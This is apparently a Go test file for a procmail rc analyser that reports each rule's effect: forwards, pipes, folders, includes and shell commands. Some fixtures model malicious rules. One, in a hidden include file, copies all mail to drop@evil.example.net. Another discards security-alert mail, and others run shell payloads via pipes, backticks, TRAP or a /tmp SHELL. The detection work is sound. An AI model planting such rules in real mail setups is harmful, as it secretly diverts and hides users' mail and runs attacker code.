package procmail

import (
	"fmt"
	"strings"
	"testing"
)

// told writes effects on one line each.
func told(list []Effect) string {
	var b strings.Builder
	for _, e := range list {
		if e.Kind == Sets && e.Name != "DEFAULT" && e.Name != "SHELL" && e.Name != "TRAP" {
			continue
		}
		fmt.Fprintf(&b, "%s:%d %s %s", e.File, e.Line, e.Kind, e.Value.Text)
		for _, f := range []struct {
			on   bool
			text string
		}{{!e.Value.Known, " unknown"}, {e.Copy, " copy"}, {e.Part != "", " " + e.Part}, {e.Shell != "", " by " + e.Shell}, {e.Dropped, " dropped"},
			{len(e.When) > 0, " when " + strings.Join(e.When, "; ")}, {e.Unreached != "", " unreached: " + e.Unreached}} {
			if f.on {
				b.WriteString(f.text)
			}
		}
		b.WriteByte('\n')
	}
	return b.String()
}

func TestFollow(t *testing.T) {
	files := map[string]string{
		"/home/alice/.cache/.p": ":0c\n! drop@evil.example.net\n",
		"/home/alice/loop":      "INCLUDERC=loop\n",
		"/home/alice/set":       "TO=a@b.example\n",
	}
	for _, tc := range []struct{ name, in, want string }{
		{"us-m08", ":0\n* ^Subject:.*(password|security|alert)\n/dev/null\n\nINCLUDERC=$HOME/.cache/.p\n",
			"rc:3 folder /dev/null when header matches \"^Subject:.*(password|security|alert)\"\n" +
				"rc:5 INCLUDERC /home/alice/.cache/.p copy\n/home/alice/.cache/.p:2 ! drop@evil.example.net copy\n"},
		{"us-m07", ":0c\n| /bin/sh -c \"id > /tmp/.pm; cat > /dev/null\"\n\n:0c\n! drop@evil.example.net\n",
			"rc:2 | /bin/sh -c \"id > /tmp/.pm; cat > /dev/null\" copy by /bin/sh\nrc:5 ! drop@evil.example.net copy\n"},
		{"us-b07", "DROPPRIVS=yes\n:0fw: spamassassin.lock\n* < 256000\n| /usr/bin/spamc\n\n:0:\n* ^X-Spam-Status: Yes\n$HOME/mail/Spam\n",
			"rc:4 f /usr/bin/spamc copy dropped when the message is smaller than 256000 bytes\n" +
				"rc:8 folder /home/alice/mail/Spam dropped when header matches \"^X-Spam-Status: Yes\"\n"},
		{"hidden in a variable", "A=drop\nB=evil.example.net\n:0c\n! $A@$B\n", "rc:4 ! drop@evil.example.net copy\n"},
		{"two possible values", "A=bob@example.test\n:0\n* ^X\n{ A=x@evil.example }\n:0\n! $A\n",
			"rc:6 ! x@evil.example\nrc:6 ! bob@example.test\n"},
		{"set in a copy", "A=x\n:0c\n{\n A=y\n :0\n ! $A\n}\n:0\n! $A\n", "rc:6 ! y copy\nrc:9 ! y\nrc:9 ! x\n"},
		{"set in a file", "INCLUDERC=set\n:0\n! $TO\n", "rc:1 INCLUDERC /home/alice/set copy\nrc:3 ! a@b.example\n"},
		{"loop", "INCLUDERC=loop\n:0\nx\n", "rc:1 INCLUDERC /home/alice/loop copy\n/home/alice/loop:1 INCLUDERC /home/alice/loop copy\nrc:3 folder /home/alice/x\n"},
		{"backticks", "A=`/tmp/x $HOME` B=${C:-`id|sh`}\n", "rc:1 backticks /tmp/x /home/alice copy\nrc:1 backticks id|sh copy by /bin/sh\n"},
		{"condition program", ":0\n* ? /tmp/.x | sh\n* ! ^b\nINBOX/\n",
			"rc:2 ? /tmp/.x | sh copy by /bin/sh\nrc:4 folder /home/alice/INBOX/ when the command /tmp/.x | sh succeeds; header does not match \"^b\"\n"},
		{"trap and shell", "SHELL=/tmp/sh\nTRAP=\"/tmp/x < /dev/null\"\n:0\n| a | b\n",
			"rc:1 = /tmp/sh copy\nrc:2 = /tmp/x < /dev/null copy by /tmp/sh\nrc:4 | a | b by /tmp/sh\n"},
		{"chain", ":0 c\n* ^a\nx\n:0 A\n! y@z.example\n:0 E\nw\n",
			"rc:3 folder /home/alice/x copy when header matches \"^a\"\nrc:5 ! y@z.example when header matches \"^a\"\n" +
				"rc:7 folder /home/alice/w when not (header matches \"^a\")\n"},
		{"areas and weights", ":0 B\n* 1^0 invoice\n* H ?? ^From\n* VAR ?? ! x\n* -1^.5 > 10\nx\n",
			"rc:6 folder /home/alice/x when body matches \"invoice\" (weight 1^0); header matches \"^From\"; $VAR does not match \"x\"; the message is larger than 10 bytes (weight -1^.5)\n"},
		{"expanded condition", "W=invoice\n:0\n* $ ^Subject:.*$W\nx\n", "rc:4 folder /home/alice/x when header matches \"^Subject:.*invoice\"\n"},
		{"everything dropped", ":0\n/dev/null\n:0c\n! x@y.example\n", "rc:2 folder /dev/null\nrc:4 ! x@y.example copy unreached: line 2 delivers every message before\n"},
		{"what may fail ends nothing", ":0\n/no/such/dir/x\n:0c\n! x@y.example\n", "rc:2 folder /no/such/dir/x\nrc:4 ! x@y.example copy\n"},
		{"host", "HOST=elsewhere\n:0\nx\n", "rc:1 HOST elsewhere\nrc:3 folder /home/alice/x unreached: line 1 ends the reading before\n"},
		{"host in a block", ":0\n* ^a\n{ HOST }\nHOST=mail\n:0\nx\n", "rc:3 HOST  when header matches \"^a\"\nrc:6 folder /home/alice/x\n"},
		{"default", "MAILDIR=$HOME/Mail\nDEFAULT=inbox/\n:0\nA.x/ B\n", "rc:2 = /home/alice/Mail/inbox/\nrc:4 folder /home/alice/Mail/A.x/\nrc:4 folder /home/alice/Mail/B\n"},
		{"capture", ":0 hw\nF=| formail -xFrom:\n:0\n! $F\n", "rc:2 =| formail -xFrom: copy header\nrc:4 ! $F unknown\n"},
		{"options of sendmail", ":0\n! -oi -f \"$LOGNAME\" a@b.example,c@d.example\n", "rc:2 ! a@b.example\nrc:2 ! c@d.example\n"},
		{"arguments", ":0\n! $1@x.example\n", "rc:2 ! $1@x.example unknown\n"},
		{"switch off", "SWITCHRC\n:0\n! x\n", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			effects, _ := Follow("rc", tc.in, Start{
				Variables: map[string]string{"HOME": "/home/alice", "LOGNAME": "alice", "HOST": "mail"},
				Open:      func(name string) (string, string, bool) { s, ok := files[name]; return s, name, ok },
			})
			if got := told(effects); got != tc.want {
				t.Errorf("got\n%swant\n%s", got, tc.want)
			}
		})
	}
}
